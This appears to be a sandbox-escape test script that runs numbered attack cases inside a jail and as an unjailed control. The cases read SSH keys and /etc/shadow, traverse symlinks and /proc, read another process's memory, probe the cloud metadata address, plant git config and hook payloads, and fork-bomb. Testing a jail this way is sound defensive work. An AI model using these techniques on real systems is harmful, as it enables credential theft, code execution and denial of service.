"""What hostile code tries: runs inside of a jail, and outside of it as the control.

    python attacker.py WORLD NUMBER...

WORLD is a JSON file that arena.py writes: where everything is that must not be reached, which makes it easy. Prints
{number: {attempt: answer}} as the last line. An answer is `done`, `nothing` where what was got holds no secret, or the
name of the error. Standard library alone, any Python since 3.9.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import glob
import json
import os
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import time
from typing import Any, Callable

import calls

World = dict[str, Any]
Answers = dict[str, str]

SECRET = b""  # what must not be seen; main() knows it from the world
MSG_FASTOPEN, IPPROTO_MPTCP = 0x20000000, 262  # linux/socket.h, linux/in.h
AF_ALG, AF_PACKET, AF_VSOCK = 38, 17, 40
TIMEOUT = 2.0


def tried(action: Callable[..., object], *arguments: object) -> str:
    try:
        result = action(*arguments)
    except OSError as failed:
        return errno.errorcode.get(failed.errno or 0, type(failed).__name__)
    except (MemoryError, ValueError, subprocess.SubprocessError) as failed:
        return type(failed).__name__
    return result if isinstance(result, str) else "done"


def holds(content: bytes) -> str:
    return "done" if SECRET in content else "nothing"


def reads(path: str) -> str:
    def content() -> str:
        with open(path, "rb") as file:
            return holds(file.read(1 << 20))

    return tried(content)


def writes(path: str, flags: int = os.O_CREAT) -> str:
    def write() -> None:
        descriptor = os.open(path, os.O_WRONLY | flags, 0o600)
        with open(descriptor, "wb") as file:
            file.write(b"written by the attacker")

    return tried(write)


def opens(path: str, flags: int) -> str:
    return tried(lambda: os.close(os.open(path, flags, 0o600)))


def secrets_of(world: World) -> dict[str, str]:
    home = world["outside"] + "/home"
    return {"~/.ssh/id_rsa": home + "/.ssh/id_rsa", ".env": home + "/.env", "/etc/shadow": "/etc/shadow"}


def case_1(world: World) -> Answers:
    answers = {name: reads(path) for name, path in secrets_of(world).items() if name != "/etc/shadow"}
    return {**answers, "/etc/shadow": opens("/etc/shadow", os.O_RDONLY)}


def case_2(world: World) -> Answers:
    return {name: tried(os.stat, path) for name, path in secrets_of(world).items()}


def case_3(world: World) -> Answers:
    data = world["outside"] + "/data"
    return {
        "create": writes(data + "/made"),
        "append": writes(data + "/one", os.O_APPEND),
        "truncate": tried(os.truncate, data + "/two", 0),
        "unlink": tried(os.unlink, data + "/three"),
        "rename": tried(os.rename, data + "/four", data + "/five"),
        "mkdir": tried(os.mkdir, data + "/folder"),
        "symlink": tried(os.symlink, "/", data + "/link"),
        "mkfifo": tried(os.mkfifo, data + "/pipe"),
    }


def case_4(world: World) -> Answers:
    target = world["outside"] + "/data/one"
    return {
        "chmod": tried(os.chmod, target, 0o777),
        "utime": tried(os.utime, target, (1, 1)),
        "setxattr": tried(os.setxattr, target, "user.mark", b"x"),
        "chown": tried(os.chown, target, os.getuid(), os.getgid()),
    }


def case_5(_: World) -> Answers:
    # Files without names: where the control may, it leaves nothing behind.
    answers = {folder: opens(folder, os.O_WRONLY | os.O_TMPFILE) for folder in ("/", "/usr", "/usr/bin", "/etc")}
    return {**answers, "/etc/passwd": opens("/etc/passwd", os.O_WRONLY)}


def case_6(world: World) -> Answers:
    return {
        "workspace": writes(world["space"] + "/made"),
        "granted folder": writes(world["granted"] + "/made"),
        "overwrite": writes(world["granted"] + "/file", os.O_TRUNC),
        "chmod": tried(os.chmod, world["granted"] + "/file", 0o777),
    }


def case_7(world: World) -> Answers:
    space = world["space"]
    return {
        "move .git away": tried(os.rename, space + "/.git", space + "/x"),
        "make another": tried(os.mkdir, space + "/.git"),
        "write .git/config": writes(space + "/.git/config"),
        "replace .git/config": tried(calls.replace, space + "/new", space + "/.git/config"),
        "write a hook": writes(space + "/.git/hooks/post-checkout"),
        "write .mcp.json": writes(space + "/.mcp.json", os.O_TRUNC),
        "unlink .mcp.json": tried(os.unlink, space + "/.mcp.json"),
    }


def case_8(world: World) -> Answers:
    space = world["space"]
    os.symlink(world["outside"] + "/data", space + "/absolute")
    os.symlink("../outside/data", space + "/relative")
    os.symlink("/proc/self/root" + world["outside"] + "/data", space + "/magic")
    answers: Answers = {}
    for name in ("absolute", "relative", "magic"):
        answers[f"read by a {name} link"] = reads(f"{space}/{name}/one")
        answers[f"list by a {name} link"] = tried(os.listdir, f"{space}/{name}")
        answers[f"write by a {name} link"] = writes(f"{space}/{name}/made-{name}")
    return answers


def case_9(world: World) -> Answers:
    """Leaves links for whoever collects artifacts."""
    folder, secret = os.environ.get("TASKYARD_ARTIFACTS", world["space"]), world["outside"] + "/home/.ssh/id_rsa"
    answers = {
        "link": tried(os.symlink, secret, folder + "/link"),
        "relative link": tried(os.symlink, os.path.relpath(secret, folder), folder + "/relative"),
        "folder": tried(os.symlink, world["outside"] + "/home", folder + "/folder"),
        "environ": tried(os.symlink, "/proc/self/environ", folder + "/environ"),
        "pipe": tried(os.mkfifo, folder + "/pipe"),
        "honest file": writes(folder + "/honest"),
    }
    with contextlib.suppress(OSError):
        os.link(secret, folder + "/hard")
    return answers


def case_10(world: World) -> Answers:
    """Exchanges a folder and a link to one outside for ever."""
    space = world["space"]
    os.mkdir(space + "/folder")
    writes(space + "/folder/one")
    os.symlink(world["outside"] + "/data", space + "/link")
    print("racing", flush=True)
    while True:
        calls.exchange(space + "/folder", space + "/link")


def case_11(world: World) -> Answers:
    space, outside = world["space"], world["outside"]
    writes(space + "/mine")
    return {
        "outside to workspace": tried(os.link, outside + "/home/.ssh/id_rsa", space + "/key"),
        "workspace to outside": tried(os.link, space + "/mine", outside + "/data/mine"),
    }


def case_12(world: World) -> Answers:
    return {"swapped folder": reads(world["granted"] + "/one")}


def case_13(world: World) -> Answers:
    secret = world["outside"] + "/home/.ssh/id_rsa"
    up = "/".join(".." for _ in world["space"].strip("/").split("/"))
    victim = world["victim"]["pid"]
    os.chdir(world["space"])
    return {
        "/proc/self/root": reads("/proc/self/root" + secret),
        "/proc/thread-self/root": reads("/proc/thread-self/root" + secret),
        "/proc/self/cwd": reads(f"/proc/self/cwd/{up}{secret}"),
        "..": reads(up + secret),
        "/proc/1/root": reads("/proc/1/root" + secret),
        "/proc/1/cwd": reads(f"/proc/1/cwd/{up}{secret}"),
        "victim's root": reads(f"/proc/{victim}/root" + secret),
        "victim's cwd": reads(f"/proc/{victim}/cwd/home/.ssh/id_rsa"),
    }


def case_14(world: World) -> Answers:
    victim = world["victim"]

    def memory() -> str:
        with open(f"/proc/{victim['pid']}/mem", "rb", buffering=0) as file:
            file.seek(victim["address"])
            return holds(file.read(4096))

    return {
        "environ": reads(f"/proc/{victim['pid']}/environ"),
        "cmdline": reads(f"/proc/{victim['pid']}/cmdline"),
        "mem": tried(memory),
        "fd": reads(f"/proc/{victim['pid']}/fd/{victim['descriptor']}"),
        "maps": opens(f"/proc/{victim['pid']}/maps", os.O_RDONLY),
    }


def case_15(_: World) -> Answers:
    def anywhere(name: str) -> str:
        found = [reads(f"/proc/{pid}/{name}") for pid in os.listdir("/proc") if pid.isdecimal()]
        return "done" if "done" in found else "nothing"

    own = "\n".join(f"{name}={text}" for name, text in os.environ.items())
    return {
        "own environment": holds(own.encode(errors="surrogateescape")),
        "first environment": reads("/proc/self/environ"),
        "every environ": anywhere("environ"),
        "every cmdline": anywhere("cmdline"),
    }


def case_16(_: World) -> Answers:
    def by_descriptor() -> str:
        for number in range(3, 1024):
            with contextlib.suppress(OSError):
                descriptor = os.open("home/.ssh/id_rsa", os.O_RDONLY, dir_fd=number)
                with open(descriptor, "rb") as file:
                    return holds(file.read())
        return "EBADF"

    own = os.open("/", os.O_RDONLY)
    others = [name for name in os.listdir("/proc/self/fd") if int(name) > 2 and int(name) not in (own, own + 1)]
    return {"read by it": by_descriptor(), "descriptors above 2": "done" if others else "nothing"}


def asked(family: int, address: object, kind: int = socket.SOCK_STREAM, protocol: int = 0) -> str:
    """Connect, and read what a listener says at once."""

    def ask() -> str:
        with socket.socket(family, kind, protocol) as client:
            client.settimeout(TIMEOUT)
            client.connect(address)  # type: ignore[arg-type]
            if kind == socket.SOCK_DGRAM:
                client.send(b"x")
            return holds(client.recv(4096))

    return tried(ask)


def case_17(world: World) -> Answers:
    victim = world["victim"]
    port, nic = victim["tcp"], victim["nic"]

    def fast_open() -> str:
        with socket.socket() as client:
            # Not settimeout(): a call that does not block would tell nothing.
            for direction in (socket.SO_SNDTIMEO, socket.SO_RCVTIMEO):
                client.setsockopt(socket.SOL_SOCKET, direction, struct.pack("ll", int(TIMEOUT), 0))
            client.sendto(b"x", MSG_FASTOPEN, ("127.0.0.1", port))
            return holds(client.recv(4096))

    return {
        "TCP": asked(socket.AF_INET, ("127.0.0.1", port)),
        "TCP by another loopback address": asked(socket.AF_INET, ("127.0.0.2", victim["tcp2"])),
        "UDP": asked(socket.AF_INET, ("127.0.0.1", victim["udp"]), socket.SOCK_DGRAM),
        "MPTCP": asked(socket.AF_INET, ("127.0.0.1", victim["mptcp"] or port), protocol=IPPROTO_MPTCP),
        "TCP Fast Open": tried(fast_open),
        "::1": asked(socket.AF_INET6, ("::1", victim["tcp6"] or port)),
        "address of the network card": asked(socket.AF_INET, (nic or "192.0.2.1", victim["tcp_nic"] or port)),
        "169.254.169.254": asked(socket.AF_INET, ("169.254.169.254", 80)),
    }


def case_18(world: World) -> Answers:
    victim = world["victim"]
    answers = {"abstract": asked(socket.AF_UNIX, "\0" + victim["abstract"])}
    for path in victim["sockets"]:
        answers[os.path.basename(path)] = asked(socket.AF_UNIX, path)
    return answers


def case_19(_: World) -> Answers:
    families = {
        "AF_VSOCK": (AF_VSOCK, socket.SOCK_STREAM),
        "AF_PACKET": (AF_PACKET, socket.SOCK_RAW),
        "AF_ALG": (AF_ALG, socket.SOCK_SEQPACKET),
    }
    return {name: tried(lambda f=family: socket.socket(*f).close()) for name, family in families.items()}


def case_23(world: World) -> Answers:
    own = world["space"] + "/own"
    shutil.copy("/bin/true", own)
    os.chmod(own, 0o755)
    loader = next(iter(glob.glob("/lib64/ld-linux-*") + glob.glob("/lib/ld-linux-*")))
    return {
        "bash": tried(subprocess.run, ["bash", "-c", "true"]),
        "posix_spawn": tried(lambda: os.waitpid(os.posix_spawn("/bin/true", ["true"], {}), 0)),
        "a program of the workspace": calls.in_child(lambda: os.execv(own, ["own"])),
        "the loader": calls.in_child(lambda: os.execv(loader, [loader, "/bin/true"])),
        "execveat": calls.in_child(lambda: calls.execveat("/bin/true")),
        "a program in memory": calls.in_child(lambda: calls.execute_in_memory("/bin/true")),
    }


def case_24(_: World) -> Answers:
    return {"port 3130": tried(lambda: socket.create_connection(("127.0.0.1", 3130), TIMEOUT).close())}


def case_25(world: World) -> Answers:
    pid = world["victim"]["pid"]
    return {
        "signal": tried(os.kill, pid, signal.SIGCONT),
        "ptrace": calls.in_child(lambda: calls.seize(pid)),
        "process_vm_readv": tried(lambda: holds(calls.read_memory(pid, world["victim"]["address"]))),
        "pidfd_open": tried(lambda: os.close(os.pidfd_open(pid))),
        "pidfd_getfd": tried(lambda: holds(calls.steal(pid, world["victim"]["descriptor"]))),
    }


def case_26(world: World) -> Answers:
    """A daemon that forks away from its parents once a millisecond; ends when a file `stop` is there."""
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    beats, stop = world["space"] + "/beats", world["space"] + "/stop"
    if os.fork():
        while not os.path.exists(beats):
            time.sleep(0.001)
        print("beating", flush=True)
        while not os.path.exists(stop):
            time.sleep(0.05)
        return {}
    os.closerange(0, 3)
    while not os.path.exists(stop):
        os.setsid()
        with open(beats, "a") as file:
            file.write("x")
        time.sleep(0.001)
        if os.fork():
            os._exit(0)
    os._exit(0)


def case_29(world: World) -> Answers:
    """As many processes as there may be, `bomb` at most; they wait for each other, then all end."""
    children: list[int] = []
    reading, writing = os.pipe()
    try:
        for _ in range(world["bomb"]):
            child = os.fork()
            if child == 0:
                os.close(writing)
                os.read(reading, 1)
                os._exit(0)
            children.append(child)
    except OSError:
        pass
    print("full", flush=True)
    time.sleep(world["hold"])
    os.close(writing)
    for child in children:
        os.waitpid(child, 0)
    return {"processes": str(len(children))}


def case_30(world: World) -> Answers:
    def fill(path: str, size: int) -> None:
        with open(path, "wb", buffering=0) as file:
            for _ in range(size >> 20):
                if file.write(bytes(1 << 20)) < 1 << 20:
                    file.write(b"x")

    def files() -> None:
        opened = [os.open("/dev/null", os.O_RDONLY) for _ in range(200)]
        for descriptor in opened:
            os.close(descriptor)

    answers = {
        "memory": tried(lambda: len(bytearray(400 << 20)) and None),
        "file": tried(fill, world["space"] + "/big", 24 << 20),
        "/tmp": tried(fill, world["tmp"] + "/big", 12 << 20),
        "/dev/shm": tried(fill, world["shm"] + "/ty-big", 12 << 20),
        "open files": tried(files),
    }
    for path in (world["tmp"] + "/big", world["shm"] + "/ty-big"):
        with contextlib.suppress(OSError):
            os.unlink(path)
    return answers


def case_33(world: World) -> Answers:
    disk = world["space"] + "/disk"
    answers = {
        "mknod": tried(os.mknod, disk, 0o600 | stat.S_IFBLK, os.makedev(254, 0)),
        "the disk": opens(world["disk"], os.O_RDONLY),
        "/dev/mem": opens("/dev/mem", os.O_RDONLY),
        "/sys": opens("/sys/kernel/mm/transparent_hugepage/enabled", os.O_WRONLY),
        "cgroup": opens(world["cgroup"], os.O_WRONLY),
        "core_pattern": opens("/proc/sys/kernel/core_pattern", os.O_WRONLY),
    }
    with contextlib.suppress(OSError):
        os.unlink(disk)
    return answers


def case_34(_: World) -> Answers:
    with open("/proc/self/status") as file:
        status = dict(line.split(":", 1) for line in file)
    names = ("NoNewPrivs", "Seccomp", "CapEff", "CapPrm", "CapBnd", "Groups")
    found = {name: status[name].strip() for name in names}
    return {
        **found,
        "uid": str(os.getuid()),
        "core_pattern": opens("/proc/sys/kernel/core_pattern", os.O_WRONLY),
        "setuid": tried(os.setuid, 0),
    }


def case_35(world: World) -> Answers:
    other, victim = world["other"], world["victim"]
    return {
        "workspace, listed": tried(os.listdir, other["workspace"]),
        "workspace, read": reads(other["workspace"] + "/work"),
        "home": reads(other["home"] + "/work"),
        "tool's state": reads(other["tool"] + "/work"),
        "/dev/shm": reads("/dev/shm/" + victim["shm"]),
        "System V shared memory": tried(lambda: holds(calls.shared_memory(victim["key"]))),
        "message queue": tried(calls.open_queue, victim["queue"]),
    }


def case_36(world: World) -> Answers:
    """Makes the workspace a repository in which every git command starts the attacker's program."""
    space = world["space"]
    payload = space + "/payload"
    with open(payload, "w") as file:
        file.write(f"#!/bin/sh\nid > {world['outside']}/ran 2>/dev/null\ntouch {space}/ran-here\ncat\n")
    os.chmod(payload, 0o755)
    with open(space + "/.gitattributes", "w") as file:
        file.write("* filter=evil diff=evil\n")
    git = ["git", "-C", space, "-c", "safe.directory=*"]
    answers = {"init": tried(subprocess.check_output, [*git, "init", "--quiet"])}
    settings = ("core.fsmonitor", "core.pager", "core.editor", "diff.external", "core.sshCommand", "filter.evil.clean")
    for name in (*settings, "filter.evil.smudge", "diff.evil.textconv", "diff.evil.command", "gpg.program"):
        answers[name] = tried(subprocess.check_output, [*git, "config", name, payload])
    for hook in ("pre-commit", "post-index-change", "reference-transaction", "post-checkout", "fsmonitor-watchman"):
        shutil.copy(payload, f"{space}/.git/hooks/{hook}")
    writes(space + "/work")
    return answers


def case_38(world: World) -> Answers:
    """A tree that is hard to remove: `depth` folders below each other, some closed, and `files` files."""
    space = world["space"]
    here = os.open(space, os.O_RDONLY)
    for level in range(world["depth"]):
        os.mkdir("d", dir_fd=here)
        below = os.open("d", os.O_RDONLY, dir_fd=here)
        if level % 100 == 99:
            os.fchmod(here, 0)
        os.close(here)
        here = below
    os.close(here)
    os.mkdir(space + "/many")
    for number in range(world["files"]):
        os.close(os.open(f"{space}/many/{number}", os.O_WRONLY | os.O_CREAT))
    os.mkdir(space + "/closed")
    writes(space + "/closed/file")
    os.chmod(space + "/closed", 0)
    return {"tree": "done"}


def case_39(world: World) -> Answers:
    line = b"x" * 65535 + b"\n"
    for _ in range(world["megabytes"] * 16):
        os.write(1, line)
    return {}


CASES: dict[int, Callable[[World], Answers]] = {
    **{int(name[5:]): found for name, found in list(globals().items()) if name.startswith("case_")},
    31: calls.case_31,
    32: calls.case_32,
}


def main() -> None:
    global SECRET
    with open(sys.argv[1]) as file:
        world: World = json.load(file)
    SECRET = world["secret"].encode()
    ctypes.CDLL(None, use_errno=True)
    print("\n" + json.dumps({number: CASES[int(number)](world) for number in sys.argv[2:]}))


if __name__ == "__main__":
    main()
